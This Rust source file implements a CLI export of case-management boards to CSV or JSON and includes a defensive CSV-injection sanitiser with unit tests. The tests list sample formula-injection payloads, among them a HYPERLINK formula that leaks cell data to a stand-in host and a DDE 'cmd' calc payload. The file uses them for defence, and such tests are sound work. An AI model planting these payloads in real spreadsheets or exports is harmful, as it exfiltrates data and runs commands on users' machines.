//! `regiedesk export BOARD`: a board as CSV or JSON for scripts and
//! reports, derived by the same code through the same API client as the
//! desk.

use anyhow::Context;
use chrono::{DateTime, Utc};

use super::columns::{self, BoardRows, TableRow};
use super::doorstroom::Preset;
use crate::api::client::{ApiClient, SyncOutcome};
use crate::config::Language;
use crate::domain::boards::{Board, Focus, Index, Snapshot};
use crate::domain::calendar::local_date;
use crate::domain::norms::Norms;
use crate::domain::stats::{Bucket, Period};

#[derive(Debug, Clone, Copy, PartialEq, Eq, clap::ValueEnum)]
pub enum Format {
    Csv,
    Json,
}

/// Parses a board name, or says which names there are.
pub fn board(name: &str, lang: Language) -> anyhow::Result<Board> {
    Board::from_name(name).with_context(|| {
        let boards = Board::ALL.map(Board::name).join(", ");
        match lang {
            Language::Nl => format!("onbekend bord {name:?}; de borden zijn {boards}"),
            Language::En => format!("unknown board {name:?}; boards are {boards}"),
        }
    })
}

/// The period and bucketing of `export doorstroom`.
#[derive(Debug, Clone, Copy)]
pub struct Figures {
    pub period: Option<Period>,
    pub by: Bucket,
}

#[allow(clippy::too_many_arguments)]
pub async fn export(
    client: &ApiClient,
    board: Board,
    format: Format,
    now: DateTime<Utc>,
    norms: &Norms,
    lang: Language,
    figures: Figures,
    focus: &Focus,
) -> anyhow::Result<String> {
    if board == Board::Doorstroom {
        let period = figures
            .period
            .unwrap_or_else(|| Preset::Year.period(local_date(now)));
        let throughput = client.throughput(period, figures.by).await?;
        let value = serde_json::to_value(&throughput)?;
        return match format {
            Format::Json => Ok(serde_json::to_string_pretty(&value)? + "\n"),
            Format::Csv => {
                let mut writer = csv::Writer::from_writer(Vec::new());
                writer
                    .write_record([lang.pick("cijfer", "figure"), lang.pick("waarde", "value")])?;
                let mut rows = Vec::new();
                flatten("", &value, &mut rows);
                for (key, value) in rows {
                    writer.write_record([spreadsheet_safe(&key), spreadsheet_safe(&value)])?;
                }
                Ok(String::from_utf8(writer.into_inner()?)?)
            }
        };
    }
    let me = client.me().await?;
    let mut snapshot = Snapshot::default();
    if let SyncOutcome::Changed { delta, .. } = client.sync(None, None).await? {
        snapshot.apply(delta);
    }
    let mut index = Index::default();
    index.refresh(&snapshot, &[], norms, now);
    let rows = BoardRows::derive(board, &snapshot, &index, &me.person, norms, now, focus)
        .expect("every board but doorstroom has rows");
    match format {
        Format::Json => Ok(serde_json::to_string_pretty(&rows.to_json())? + "\n"),
        Format::Csv => {
            let table = rows.table(&snapshot, norms.counting, lang, now);
            table_csv(columns::of(board), &table, lang)
        }
    }
}

/// Rows as CSV under their columns' headers: the cells as the desk shows
/// them (JSON has the raw fields), none of them a formula. The desk's `x`
/// writes the same.
pub fn table_csv<'a>(
    columns: &[columns::Column],
    rows: impl IntoIterator<Item = &'a TableRow>,
    lang: Language,
) -> anyhow::Result<String> {
    let mut writer = csv::Writer::from_writer(Vec::new());
    writer.write_record(columns.iter().map(|c| c.header(lang)))?;
    for row in rows {
        writer.write_record(row.cells.iter().map(|c| spreadsheet_safe(&c.text)))?;
    }
    Ok(String::from_utf8(writer.into_inner()?)?)
}

/// A cell a spreadsheet shows as text, never runs: a cell that starts with
/// `=`, `+`, `-`, `@`, a tab or a carriage return is a formula to Excel and
/// LibreOffice (an escalation reason typed as `=HYPERLINK(...)` would send
/// the sheet's data wherever it points), so it gets a leading `'`, as
/// OWASP's CSV injection advice says. A plain number (`-2`) stays a number.
pub fn spreadsheet_safe(cell: &str) -> String {
    let formula_start = cell.starts_with(['=', '+', '-', '@', '\t', '\r']);
    let plain_number = cell.parse::<f64>().is_ok_and(f64::is_finite);
    if formula_start && !plain_number {
        format!("'{cell}")
    } else {
        cell.to_string()
    }
}

/// Every figure as a dotted path and its value: `inflow.by_source.cjg`,
/// `series.3.inflow`. Missing figures (no data) are empty.
fn flatten(prefix: &str, value: &serde_json::Value, rows: &mut Vec<(String, String)>) {
    let key = |k: &str| {
        if prefix.is_empty() {
            k.to_string()
        } else {
            format!("{prefix}.{k}")
        }
    };
    match value {
        serde_json::Value::Object(map) => {
            for (k, v) in map {
                flatten(&key(k), v, rows);
            }
        }
        serde_json::Value::Array(items) => {
            for (i, v) in items.iter().enumerate() {
                flatten(&key(&i.to_string()), v, rows);
            }
        }
        serde_json::Value::Null => rows.push((prefix.to_string(), String::new())),
        serde_json::Value::String(s) => rows.push((prefix.to_string(), s.clone())),
        other => rows.push((prefix.to_string(), other.to_string())),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn figures_flatten_into_dotted_paths() {
        let value = serde_json::json!({
            "inflow": {"total": 3, "by_source": {"cjg": 1}},
            "first_contact": {"within_norm_pct": null},
            "series": [{"from": "2026-11-02", "inflow": 2}],
        });
        let mut rows = Vec::new();
        flatten("", &value, &mut rows);
        let rows: Vec<(&str, &str)> = rows.iter().map(|(k, v)| (k.as_str(), v.as_str())).collect();
        assert_eq!(
            rows,
            vec![
                ("first_contact.within_norm_pct", ""),
                ("inflow.by_source.cjg", "1"),
                ("inflow.total", "3"),
                ("series.0.from", "2026-11-02"),
                ("series.0.inflow", "2"),
            ]
        );
    }

    #[test]
    fn a_cell_that_a_spreadsheet_would_run_is_text() {
        for formula in [
            "=HYPERLINK(\"http://x.example/?\"&A1,\"klik\")",
            "+3 wd",
            "-1+cmd|' /C calc'!A0",
            "@SUM(A1:A9)",
            "\t=1+1",
            "\r=1+1",
        ] {
            assert_eq!(spreadsheet_safe(formula), format!("'{formula}"));
        }
        for plain in ["-2", "3.5", "gevaar voor kind", "", "a=b", "R-2026-0012"] {
            assert_eq!(spreadsheet_safe(plain), plain);
        }
    }

    #[test]
    fn an_unknown_board_names_the_valid_ones() {
        assert_eq!(board("mandaat", Language::Nl).unwrap(), Board::Mandaat);
        let error = board("stagnation", Language::Nl).unwrap_err().to_string();
        assert_eq!(
            error,
            "onbekend bord \"stagnation\"; de borden zijn caseload, stagnatie, mandaat, doorzettingsmacht, doorstroom, waakvlam"
        );
        let error = board("stagnation", Language::En).unwrap_err().to_string();
        assert!(error.starts_with("unknown board"), "{error}");
    }
}
